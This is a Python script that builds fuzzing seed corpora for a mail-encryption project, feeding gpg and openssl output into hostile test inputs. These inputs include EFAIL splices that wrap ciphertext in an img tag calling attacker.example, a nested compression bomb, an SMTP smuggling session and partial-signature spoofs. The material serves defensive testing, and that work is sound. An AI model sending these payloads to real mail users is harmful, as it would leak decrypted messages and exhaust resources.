#!/usr/bin/python3
"""Regenerates the committed seed corpora in fuzz/corpus/ (run from anywhere).

Uses the real peers (gpg, openssl) with the test keys in testdata/keys and
fuzz/keys, plus hand-made cases from issue 10: deep MIME, EFAIL splices,
partial signatures, never-encrypted OpenPGP data, small compression bombs,
bad CMS, a corrupt queue header. Seeds stay small (libFuzzer mutates them).
"""
import base64, bz2, json, os, shutil, struct, subprocess, tempfile, zlib, hashlib

FUZZ = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(FUZZ)
CORPUS = os.path.join(FUZZ, "corpus")
KEYS = os.path.join(FUZZ, "keys")
TD = os.path.join(ROOT, "testdata")


def put(target, name, data):
    d = os.path.join(CORPUS, target)
    os.makedirs(d, exist_ok=True)
    if isinstance(data, str):
        data = data.encode()
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)


def run(args, data=b"", cwd=None, env=None):
    return subprocess.run(args, input=data, capture_output=True, check=True, cwd=cwd, env=env).stdout


def crlf(text):
    return text.replace("\r\n", "\n").replace("\n", "\r\n").encode()


def pgpmime_encrypted(armored, subject="sealed"):
    return crlf(
        "From: Bob Example <bob@example.net>\nTo: alice@example.org\nSubject: %s\nMIME-Version: 1.0\n"
        'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="b1"\n\n'
        "--b1\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n"
        "--b1\nContent-Type: application/octet-stream\n\n%s\n--b1--\n" % (subject, armored)
    )


# ---- message / transfer ------------------------------------------------------
def messages():
    src = os.path.join(TD, "messages", "corpus")
    for name in sorted(os.listdir(src)):
        data = open(os.path.join(src, name), "rb").read()
        put("message", name, data)
        put("transfer", name, data)
    deep = "From: a@example.org\nTo: b@example.org\nSubject: deep\n"
    depth = 200
    for i in range(depth):
        deep += "Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (i, i)
    deep += "Content-Type: text/plain\n\nleaf\n"
    for i in reversed(range(depth)):
        deep += "--b%d--\n" % i
    put("message", "deep-multipart-200", deep)
    put("transfer", "deep-multipart-200", deep)
    rfc822 = "From: a@example.org\nSubject: deep rfc822\n"
    for i in range(200):
        rfc822 += "Content-Type: message/rfc822\n\nSubject: level %d\n" % i
    rfc822 += "Content-Type: text/plain\n\nleaf\n"
    put("message", "deep-rfc822-200", rfc822)
    put("transfer", "deep-rfc822-200", rfc822)
    put("message", "unclosed-multipart", "Content-Type: multipart/mixed; boundary=x\n\n--x\n\npart\n--x\n\nmore\n")
    put("message", "not-a-header", "hello world\nFrom: a@b\n\nbody\n")
    put("message", "folded-addresses",
        'From: "manager@corp.example" <eve@corp.example>\nFrom: second@example.org\n'
        "To: a@x,\n  b@y, Group: c@z, d@w;\nCc: =?utf-8?q?J=C3=B6rg?= <j@example.de>\n"
        "Content-Type: Multipart/Mixed;\n boundary*0=\"ab\"; boundary*1=\"cd\"\n\n--abcd\n\nx\n--abcd--\n")
    put("transfer", "qp-and-base64",
        "Content-Type: multipart/mixed; boundary=q\n\n--q\nContent-Type: text/plain; charset=utf-8\n"
        "Content-Transfer-Encoding: quoted-printable\n\nJ=C3=B6rg =\n soft=3Dbreak trailing \nFrom here\n"
        "--q\nContent-Type: application/octet-stream\nContent-Transfer-Encoding: base64\n\n"
        "AAECAwQFBgcICQ==\n--q\nContent-Type: text/plain\nContent-Transfer-Encoding: base64\n\n!!not base64\n--q--\n")
    put("transfer", "8bit-long-line", "Content-Type: text/plain; charset=utf-8\n\n" + "\u00e9" * 600 + "\n")


# ---- OpenPGP -----------------------------------------------------------------
def packet(tag, body):
    """A new-format OpenPGP packet."""
    n = len(body)
    if n < 192:
        length = bytes([n])
    elif n < 8384:
        n -= 192
        length = bytes([(n >> 8) + 192, n & 0xFF])
    else:
        length = b"\xff" + struct.pack(">I", n)
    return bytes([0xC0 | tag]) + length + body


def armor(data, kind="MESSAGE"):
    b = base64.b64encode(data).decode()
    lines = "\n".join(b[i:i + 64] for i in range(0, len(b), 64))
    crc = 0xB704CE
    for byte in data:
        crc ^= byte << 16
        for _ in range(8):
            crc <<= 1
            if crc & 0x1000000:
                crc ^= 0x1864CFB
    crc &= 0xFFFFFF
    return "-----BEGIN PGP %s-----\n\n%s\n=%s\n-----END PGP %s-----\n" % (
        kind, lines, base64.b64encode(struct.pack(">I", crc)[1:]).decode(), kind)


def openpgp():
    home = tempfile.mkdtemp()
    env = dict(os.environ, GNUPGHOME=home)
    g = ["gpg", "--batch", "--yes", "--no-tty", "--trust-model", "always"]
    run(g + ["--import", os.path.join(TD, "keys", "bob.sec.asc"), os.path.join(TD, "keys", "alice.pub.asc")], env=env)
    inner = crlf("Content-Type: text/plain; charset=utf-8\nSubject: protected\nFrom: bob@example.net\n\nHello Alice, 100 EUR.\n")
    enc_signed = run(g + ["-a", "-e", "-s", "-r", "alice@example.org", "-u", "bob@example.net"], inner, env=env).decode()
    put("openpgp", "pgpmime-encrypted-signed", pgpmime_encrypted(enc_signed))
    enc = run(g + ["-a", "-e", "-z", "0", "-r", "alice@example.org"], inner, env=env).decode()
    put("openpgp", "pgpmime-encrypted", pgpmime_encrypted(enc))
    put("openpgp", "inline-encrypted", crlf("From: bob@example.net\nTo: alice@example.org\nSubject: inline\n\n" + enc_signed))
    # EFAIL direct exfiltration: the ciphertext inside the attacker's HTML.
    put("openpgp", "efail-html-splice", crlf(
        "From: eve@example.com\nTo: alice@example.org\nContent-Type: text/html\n\n"
        '<html><img src="http://attacker.example/?\n' + enc_signed + '">\n</html>\n'))
    put("openpgp", "efail-multipart-mixed", crlf(
        "From: eve@example.com\nTo: alice@example.org\nContent-Type: multipart/mixed; boundary=e\n\n"
        '--e\nContent-Type: text/html\n\n<img src="http://attacker.example/?\n'
        "--e\nContent-Type: text/plain\n\n" + enc_signed +
        '\n--e\nContent-Type: text/html\n\n">\n--e--\n'))
    body = crlf("Content-Type: text/plain\n\nsigned body\n")
    sig = run(g + ["-a", "--detach-sign", "-u", "bob@example.net"], body, env=env).decode()
    put("openpgp", "pgpmime-signed", crlf(
        "From: bob@example.net\nTo: alice@example.org\nSubject: signed\nMIME-Version: 1.0\n"
        'Content-Type: multipart/signed; micalg=pgp-sha256; protocol="application/pgp-signature"; boundary="s"\n\n'
        "--s\n") + body + crlf("\n--s\nContent-Type: application/pgp-signature\n\n" + sig + "\n--s--\n"))
    clear = run(g + ["--clearsign", "-u", "bob@example.net"], b"Pay 100 EUR to Bob.\n", env=env).decode()
    put("openpgp", "inline-clearsigned", crlf("From: bob@example.net\nTo: alice@example.org\n\n" + clear))
    put("openpgp", "partial-clearsigned", crlf(
        "From: bob@example.net\nTo: alice@example.org\nContent-Type: text/html\n\n"
        "<p>Unsigned: pay 900 EUR to Eve</p><!--\n" + clear + "-->\n"))
    signed = run(g + ["-a", "--sign", "-u", "bob@example.net"], b"inline signed\n", env=env).decode()
    put("openpgp", "inline-signed", crlf("From: bob@example.net\nTo: alice@example.org\n\n" + signed))
    # Never encrypted: a bare literal packet and a compressed one.
    literal = packet(11, b"b\x00\x00\x00\x00\x00" + b"not encrypted at all\n")
    put("openpgp", "bare-literal", pgpmime_encrypted(armor(literal)))
    put("openpgp", "bare-compressed", pgpmime_encrypted(armor(packet(8, b"\x02" + zlib.compress(literal)))))
    # Small compression bombs: zlib in bzip2 in zlib (expands to 64 MiB).
    big = packet(11, b"b\x00\x00\x00\x00\x00" + b"\x00" * (64 << 20))
    layer = packet(8, b"\x02" + zlib.compress(big, 9))
    layer = packet(8, b"\x03" + bz2.compress(layer, 9))
    layer = packet(8, b"\x02" + zlib.compress(layer, 9))
    put("openpgp", "compression-bomb-nested", pgpmime_encrypted(armor(layer)))
    # Tampered ciphertext: one flipped byte in the middle.
    raw = run(g + ["-e", "-r", "alice@example.org"], inner, env=env)
    flipped = bytearray(raw)
    flipped[len(raw) // 2] ^= 0x01
    put("openpgp", "tampered", pgpmime_encrypted(armor(bytes(flipped))))
    put("openpgp", "truncated", pgpmime_encrypted(enc[: len(enc) // 2]))
    # Certificates for openpgp_certs.
    for name in ["alice.pub.asc", "bob.pub.asc"]:
        put("openpgp_certs", name, open(os.path.join(TD, "keys", name), "rb").read())
    binary = run(g + ["--export", "bob@example.net"], env=env)
    put("openpgp_certs", "bob.pgp", binary)
    # A bare user ID packet appended to Bob's certificate (no self-signature).
    put("openpgp_certs", "bob-bare-userid.pgp", binary + packet(13, b"Mallory <alice@example.org>"))
    put("openpgp_certs", "two-certs.asc",
        open(os.path.join(TD, "keys", "alice.pub.asc"), "rb").read() + open(os.path.join(TD, "keys", "bob.pub.asc"), "rb").read())
    shutil.rmtree(home, ignore_errors=True)
    return binary


# ---- S/MIME ------------------------------------------------------------------
def smime():
    tmp = tempfile.mkdtemp()
    k = lambda n: os.path.join(KEYS, n)
    msg = crlf("From: alice@example.org\nTo: carol@example.org\nSubject: s/mime\nContent-Type: text/plain\n\nPay 100 EUR.\n")
    o = ["openssl", "cms"]
    def cms(args, data=msg):
        return run(o + args, data)
    headers = "From: alice@example.org\nTo: carol@example.org\nSubject: s/mime\n"
    def both(name, args, data=msg):
        mime = cms(args, data)
        put("smime", name, crlf(headers) + mime)
        put("cms", name + ".der", cms(args + ["-outform", "DER"], data))
        return mime
    both("enveloped-rsa-cbc", ["-encrypt", "-aes256", "-recip", k("alice.crt")])
    both("enveloped-rsa-oaep", ["-encrypt", "-aes256", "-recip", k("alice.crt"), "-keyopt", "rsa_padding_mode:oaep"])
    both("enveloped-ecdh-p256", ["-encrypt", "-aes256", "-recip", k("carol.crt")])
    both("auth-enveloped-gcm", ["-encrypt", "-aes-256-gcm", "-recip", k("alice.crt")])
    both("signed-opaque", ["-sign", "-nodetach", "-signer", k("alice.crt"), "-inkey", k("alice.key")])
    both("signed-opaque-stream", ["-sign", "-nodetach", "-stream", "-signer", k("carol.crt"), "-inkey", k("carol.key")])
    detached = cms(["-sign", "-signer", k("alice.crt"), "-inkey", k("alice.key")])
    put("smime", "signed-detached", crlf(headers) + detached)
    put("cms", "signed-detached.der", cms(["-sign", "-signer", k("alice.crt"), "-inkey", k("alice.key"), "-outform", "DER"]))
    signed = cms(["-sign", "-signer", k("carol.crt"), "-inkey", k("carol.key")])
    both("signed-then-encrypted", ["-encrypt", "-aes256", "-recip", k("alice.crt")], signed)
    # CBC malleability: a flipped byte in the enveloped-data.
    der = bytearray(cms(["-encrypt", "-aes256", "-recip", k("alice.crt"), "-outform", "DER"]))
    der[-20] ^= 0x08
    put("cms", "cbc-flipped.der", bytes(der))
    put("smime", "cbc-flipped", crlf(headers + 'MIME-Version: 1.0\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"\n'
                                     "Content-Transfer-Encoding: base64\n\n") + base64.encodebytes(bytes(der)))
    put("cms", "truncated.der", bytes(der[: len(der) // 2]))
    put("cms", "indefinite-garbage.der", b"\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x03\xa0\x80\x30\x80\x00\x00\x00\x00\x00\x00")
    put("smime", "efail-splice", crlf(
        "From: eve@example.com\nContent-Type: multipart/mixed; boundary=e\n\n--e\nContent-Type: text/html\n\n<img src=\"http://attacker.example/?\n--e\n")
        + cms(["-encrypt", "-aes256", "-recip", k("alice.crt")]) + crlf("\n--e\nContent-Type: text/html\n\n\">\n--e--\n"))
    # x509 and pkcs12
    for n in ["ca.crt", "alice.crt", "carol.crt", "alice.key", "carol.key"]:
        put("x509", n, open(k(n), "rb").read())
    for n in ["alice.crt", "carol.crt"]:
        put("x509", n.replace(".crt", ".der"), run(["openssl", "x509", "-in", k(n), "-outform", "DER"]))
    put("x509", "rfc9216-alice.crt", open(os.path.join(TD, "smime", "rfc9216", "alice.crt"), "rb").read())
    put("x509", "carol-sec1.key", run(["openssl", "ec", "-in", k("carol.key")]))
    put("x509", "alice-pkcs1.key", run(["openssl", "rsa", "-in", k("alice.key"), "-traditional"]))
    p = ["openssl", "pkcs12", "-export", "-passout", "pass:fuzz", "-inkey"]
    put("pkcs12", "carol.p12", run(p + [k("carol.key"), "-in", k("carol.crt"), "-certfile", k("ca.crt")]))
    put("pkcs12", "carol-iter1.p12", run(p + [k("carol.key"), "-in", k("carol.crt"), "-iter", "1", "-maciter"]))
    put("pkcs12", "alice-legacy.p12", run(p + [k("alice.key"), "-in", k("alice.crt"), "-legacy"]))
    put("pkcs12", "carol-nomac.p12", run(p + [k("carol.key"), "-in", k("carol.crt"), "-nomac", "-iter", "1"]))
    shutil.rmtree(tmp, ignore_errors=True)


# ---- DNS ---------------------------------------------------------------------
def dns(bob_binary):
    def name(n):
        return b"".join(bytes([len(l)]) + l.encode() for l in n.strip(".").split(".")) + b"\x00"
    def response(rtype, rdatas, qname):
        out = struct.pack(">HHHHHH", 0x1234, 0x8180, 1, len(rdatas), 0, 0)
        out += name(qname) + struct.pack(">HH", rtype, 1)
        for rdata in rdatas:
            out += b"\xc0\x0c" + struct.pack(">HHIH", rtype, 1, 300, len(rdata)) + rdata
        return out
    local = hashlib.sha256(b"alice").hexdigest()[:56]
    der = run(["openssl", "x509", "-in", os.path.join(KEYS, "alice.crt"), "-outform", "DER"])
    put("dns", "openpgpkey", response(61, [bob_binary], local + "._openpgpkey.example.org"))
    put("dns", "smimea-3-0-0", response(53, [b"\x03\x00\x00" + der], local + "._smimecert.example.org"))
    put("dns", "smimea-mixed", response(53, [b"\x03\x01\x01" + hashlib.sha256(der).digest(), b"\x02\x00\x00" + der,
                                              b"\x09\x00\x00junk"], local + "._smimecert.example.org"))


# ---- SMTP --------------------------------------------------------------------
def smtp():
    msg = "From: a@example.org\r\nTo: b@example.org\r\nSubject: hi\r\n\r\nHello\r\n..dot\r\n"
    put("smtp_server", "plain-session",
        "EHLO client.example\r\nMAIL FROM:<a@example.org>\r\nRCPT TO:<b@example.org>\r\nDATA\r\n" + msg + ".\r\nQUIT\r\n")
    put("smtp_server", "pipelined",
        "EHLO c\r\nMAIL FROM:<a@example.org> SIZE=100 BODY=8BITMIME\r\nRCPT TO:<b@example.org>\r\nRCPT TO:<c@example.org> NOTIFY=NEVER\r\nDATA\r\n"
        + msg + ".\r\nRSET\r\nNOOP\r\nVRFY b\r\nHELP\r\nQUIT\r\n")
    put("smtp_server", "bdat", "EHLO c\r\nMAIL FROM:<>\r\nRCPT TO:<b@example.org>\r\nBDAT 20 LAST\r\nSubject: x\r\n\r\nbody\r\n\r\nQUIT\r\n")
    put("smtp_server", "smuggling", "HELO c\r\nMAIL FROM:<a@example.org>\r\nRCPT TO:<b@example.org>\r\nDATA\r\nSubject: x\r\n\r\nbody\n.\nMAIL FROM:<evil@example.org>\r\n.\r\n")
    put("smtp_server", "errors", "DATA\r\nRCPT TO:<b@example.org>\r\nMAIL FROM:<a@b\r\nFOO\r\n" + "X" * 5000 + "\r\nEHLO\r\nSTARTTLS\r\n\x16\x03\x01\x00\x05hello")
    put("smtp_server", "bad-addresses", "EHLO c\r\nMAIL FROM:<a@example.org\r\n>\r\nMAIL FROM:<\"a b\"@[127.0.0.1]>\r\nRCPT TO:<@route:b@example.org>\r\nRCPT TO:<b@example.org\r\nDATA>\r\n")
    plain = base64.b64encode(b"\x00mailseal\x00fuzz").decode()
    put("smtp_server", "auth-plain",
        "#auth\nEHLO c\r\nAUTH PLAIN " + plain + "\r\nMAIL FROM:<a@example.org>\r\nRCPT TO:<b@example.org>\r\nDATA\r\n" + msg + ".\r\nQUIT\r\n")
    put("smtp_server", "auth-login",
        "#auth\nEHLO c\r\nAUTH LOGIN\r\n" + base64.b64encode(b"mailseal").decode() + "\r\n" + base64.b64encode(b"fuzz").decode() + "\r\nQUIT\r\n")
    put("smtp_server", "auth-bad", "#auth\nEHLO c\r\nAUTH PLAIN\r\n=\r\nAUTH LOGIN dXNlcg==\r\n*\r\nAUTH CRAM-MD5\r\nMAIL FROM:<a@example.org>\r\n")
    put("smtp_reply", "ehlo", "220 mx.example ESMTP\r\n250-mx.example\r\n250-PIPELINING\r\n250-SIZE 1000\r\n250-AUTH PLAIN LOGIN\r\n250 STARTTLS\r\n")
    put("smtp_reply", "errors", "535 5.7.8 Authentication credentials invalid\r\n421-4.7.0 closing\r\n421 4.7.0 bye\r\n250-a\r\n251 b\r\n")
    put("smtp_reply", "odd", "250\r\n2\r\n999 x\r\n250-\n250 ok\n" + "250-" + "x" * 600 + "\r\n")


# ---- config and spool ----------------------------------------------------------
def config():
    put("config", "demo-home.toml", open(os.path.join(TD, "demo-home", "config.toml"), "rb").read())
    put("config", "design.toml", """[identity."alice@example.org"]
openpgp = "A744B8C304FBAFA899200F3C692C79B0E6B83C46"
smime = "00"

[relay.default]
host = "smtp.example.org"
port = 587
tls = "starttls"
username = "alice@example.org"
password = "env:RELAY_PASSWORD"
pin = "sha256/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="
auth = "plain"

[policy]
default = "encrypt-if-possible"
prefer = "openpgp"
sign = true
encrypt_to_self = true
protect_headers = true
[policy.recipients]
"@bank.example" = "require-encryption"
"bob@example.net" = "sign-only"

[smime]
content_cipher = "aes256-gcm"
key_transport = "rsa-oaep"
rsa_signature = "pss"
recipient_cipher = { "old@example.com" = "aes256-cbc" }

[discovery]
auto = true
methods = ["store", "wkd", "dane", "keyserver"]
keyservers = ["hkps://keys.openpgp.org", "vks+https://keys.example.org", "hkp://plain.example"]
timeout_secs = 10

[network]
resolve = { "openpgpkey.example.org:443" = "127.0.0.1:8443" }
nameservers = ["127.0.0.1:5353"]

[agent]
listen = "127.0.0.1:1587"
auth = "required"
password = "env:AGENT_PASSWORD"
max_age = "2days 3h"
max_message_size = 1000
hostname = "agent.example"
""")


def spool():
    entry = {"id": "0000000000000000000", "received": 1, "from": "a@example.org", "client": "127.0.0.1:1",
             "user": None, "copies": [{"to": ["b@example.org"], "bcc": False, "sealing": "plain", "size": 5},
                                      {"to": ["c@example.org"], "bcc": True, "sealing": "encrypted", "size": 3}]}
    good = b"mailseal-spool 1\n" + json.dumps(entry).encode() + b"\nhelloabc"
    state = json.dumps({"attempts": 2, "next_attempt": 0, "last_attempt": 5, "last_error": "x", "delivered": [1],
                        "failed": None, "retried_at": None}).encode()
    put("spool", "queued", good)
    put("spool", "queued-with-state", good + b"\x00STATE\x00" + state)
    put("spool", "corrupt-header", b"mailseal-spool 1\n{\"id\": \"0000000000000000000\", \"copies\": [{\"size\": 99999999999}\nbody")
    put("spool", "wrong-magic", b"mailseal-spool 2\n{}\n")
    put("spool", "size-overflow", b"mailseal-spool 1\n" + json.dumps(dict(entry, copies=[dict(entry["copies"][0], size=2**64 - 1)])).encode() + b"\nx")


def open_stream():
    """The streaming open paths read the messages the openpgp target reads."""
    os.makedirs(os.path.join(CORPUS, "open_stream"), exist_ok=True)
    for name in ["pgpmime-encrypted", "pgpmime-encrypted-signed", "inline-encrypted", "inline-signed",
                 "inline-clearsigned", "partial-clearsigned", "efail-html-splice", "efail-multipart-mixed",
                 "tampered", "truncated", "crash-truncated-seipd-panic"]:
        source = os.path.join(CORPUS, "openpgp", name)
        if os.path.exists(source):
            shutil.copy(source, os.path.join(CORPUS, "open_stream", name))


if __name__ == "__main__":
    if os.path.isdir(CORPUS):
        shutil.rmtree(CORPUS)
    messages()
    bob = openpgp()
    open_stream()
    smime()
    dns(bob)
    smtp()
    config()
    spool()
    for t in sorted(os.listdir(CORPUS)):
        files = os.listdir(os.path.join(CORPUS, t))
        print(t, len(files), "files", sum(os.path.getsize(os.path.join(CORPUS, t, f)) for f in files), "bytes")
